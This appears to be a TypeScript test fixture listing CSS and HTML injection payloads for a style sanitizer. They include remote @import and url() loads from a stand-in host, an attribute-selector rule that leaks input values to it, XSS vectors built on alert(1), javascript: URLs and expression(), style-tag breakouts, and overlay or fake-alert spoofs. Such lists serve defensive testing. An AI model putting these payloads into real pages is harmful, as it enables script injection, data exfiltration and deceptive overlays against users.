/** @module Styles that load, read, cover or run. */

export const STYLES: readonly string[] = [
  "<style>@import '//x.example/x.css'</style>",
  '<style>@import"//x.example/x.css";</style>',
  '<style>input[value^=a]{background:url(//x.example/a)}</style>',
  '<style>@font-face{font-family:x;src:url(//x.example/f);unicode-range:U+0041}</style>',
  '<style>*{display:none!important}</style>',
  '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>',
  '<style>:target{color:red}</style><p id=x onfocus=alert(1)>',
  '<style>@charset "utf-7";</style>',
  '<style><img src="</style><img src=x onerror=alert(1)>">',
  '<p style="background:url(javascript:alert(1))">',
  '<p style="width:expression(alert(1))">',
  '<p style="-moz-binding:url(//x.example/x.xml#x)">',
  '<p style="behavior:url(//x.example/x.htc)">',
  '<p style="position:fixed;inset:0;z-index:9999">palsu</p>',
  '<p style="x:\\65xpression(alert(1))">',
  '<p class="notice alarm" role=alert>palsu</p>',
  'color:red;background:url(//x.example)',
  '}</style><script>alert(1)</script>',
  '</style><style>*{visibility:hidden}',
  'url(javascript:alert(1))',
]
